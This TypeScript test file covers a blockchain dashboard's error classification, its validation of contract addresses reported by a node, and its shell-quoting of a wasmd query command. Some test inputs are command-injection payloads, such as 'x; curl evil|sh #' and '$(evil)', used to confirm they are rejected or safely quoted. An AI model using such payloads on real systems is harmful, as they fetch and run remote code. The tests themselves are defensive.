import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { test } from "node:test";
import { NodeAway, NodeRefused, NotYet, OtherChain, OtherContract, Pruned, QueryFailed } from "../src/chain/errors.js";
import { peersOf } from "../src/chain/snapshot.js";
import { troubleOf } from "../src/chain/trouble.js";
import { asking } from "../src/ui/command.js";

const CONFIG = { job_market: "wasm1jobs", pool: "wasm1pool", provider_registry: "wasm1registry", lease_market: "wasm1leases", staking: "wasm1staking", restaking: "wasm1restaking" };

test("who is at fault is told apart: a node, a contract, the configuration", () => {
  const cases: readonly (readonly [unknown, string, RegExp, RegExp])[] = [
    [new NodeAway("No node answers (http://a: Failed to fetch)."), "away", /^The node does not answer$/, /No node answers \(http:\/\/a/],
    [new QueryFailed("unknown query path", "wasm1jobs"), "away", /starting/, /no block yet/],
    [new NotYet("The node does not have block 9 yet."), "behind", /behind/, /block 9 yet\. The page has no other node to ask\. If it stays so, tell whoever runs it\.$/],
    [new Pruned("The node no longer has the state of block 9."), "behind", /dropped/, /block 9\. The page has no other node/],
    [new NodeRefused("The node refused status: too many requests"), "refused", /refuses/, /too many requests/],
    [new QueryFailed("address wasm1jobs: no such contract", "wasm1jobs"), "contract", /no such contract/, /Expected a contract at wasm1jobs, "job_market" of config\.json\. Address wasm1jobs: no such contract\. Whoever runs this page must mend/],
    [new QueryFailed("decoding bech32 failed: invalid checksum", "wasm1leases"), "contract", /no such contract/, /"lease_market" of config\.json/],
    [new QueryFailed("Error parsing into type pool::QueryMsg: unknown variant `assets`", "wasm1pool"), "contract", /another version/, /wasm1pool, "pool" of config\.json/],
    [new QueryFailed("Error parsing into type gateway::QueryMsg: unknown variant `methods`", "wasm1gateway"), "contract", /another version/, /wasm1gateway, which "job_market" of config\.json names/],
    [new OtherChain("No node answers for this chain (http://a: expected the chain a-1, got \"b-1\")."), "refused", /another chain/, /expected the chain a-1, got "b-1"\)\. Whoever runs this page must mend "rpc"/],
    [new OtherContract("Expected a job-market.", "wasm1jobs"), "contract", /another one/, /Expected a job-market\./],
    [new QueryFailed("division by zero", "wasm1jobs"), "contract", /answers with an error/, /It says: Division by zero\./],
    [new TypeError("Cannot read properties of undefined"), "contract", /something else/, /another version than the page/],
  ];
  for (const [error, kind, title, text] of cases) {
    const trouble = troubleOf(error, CONFIG, false);
    assert.equal(trouble.kind, kind, `${error}`);
    assert.match(trouble.title, title);
    assert.match(trouble.text, text);
  }
  assert.equal(troubleOf(new NodeRefused("too many requests"), CONFIG, true).text, "Too many requests. The page asks the next node.");
});

const [JOBS, POOL, REGISTRY, GATEWAY, FEES, THIEF] = [..."qpzry9"].map((letter) => `wasm1${letter.repeat(58)}`) as [string, string, string, string, string, string];
const ADDRESSES = { prefix: "wasm", denom: "unet", job_market: JOBS, pool: POOL, provider_registry: REGISTRY };
const PEERS = { pool: POOL, provider_registry: REGISTRY, verifier_gateway: GATEWAY, fee_collector: FEES };

test("only a job-market is taken for one", () => {
  assert.equal(peersOf({ peers: PEERS, network_denom: "unet" }, ADDRESSES), PEERS);
  for (const answer of [{ peers: { pool: "a" }, network_denom: "unet" }, { network_denom: "unet" }, [], "x", null]) {
    assert.throws(() => peersOf(answer, ADDRESSES), (error) => error instanceof OtherContract && error.contract === JOBS);
  }
  for (const key of ["pool", "provider_registry"] as const) {
    const answer = { peers: { ...PEERS, [key]: THIEF }, network_denom: "unet" };
    assert.throws(() => peersOf(answer, ADDRESSES), new RegExp(`Expected that it names ${ADDRESSES[key]}, "${key}" of config.json, got ${THIEF}`));
  }
  for (const denom of ["uusd", "", undefined]) {
    assert.throws(() => peersOf({ peers: PEERS, network_denom: denom }, ADDRESSES), new RegExp(`Expected that it names unet, "denom" of config.json, got ${denom}: either the node or the configuration is wrong`));
  }
});

test("what a node names as a contract is an address of the chain, and ends no word of a command", () => {
  for (const evil of ["x; curl evil|sh #", `${FEES}\n`, `${FEES};`, FEES.replace("wasm", "osmo"), "", 7, null]) {
    for (const key of ["verifier_gateway", "fee_collector"]) {
      assert.throws(() => peersOf({ peers: { ...PEERS, [key]: evil }, network_denom: "unet" }, ADDRESSES), OtherContract, `${key} ${evil}`);
    }
  }
  const words = ["a'; curl evil|sh #", "$(evil)", "a b\n"];
  for (const word of words) {
    const command = `set -- ${asking(`http://${word}`, word, { word }, 7)}; printf '%s\\0' "$@"`;
    const told = execFileSync("sh", ["-c", command], { encoding: "utf8" }).split("\0");
    assert.deepEqual(told, ["wasmd", "query", "wasm", "contract-state", "smart", word, JSON.stringify({ word }), "--node", `http://${word}`, "--height", "7", ""]);
  }
});
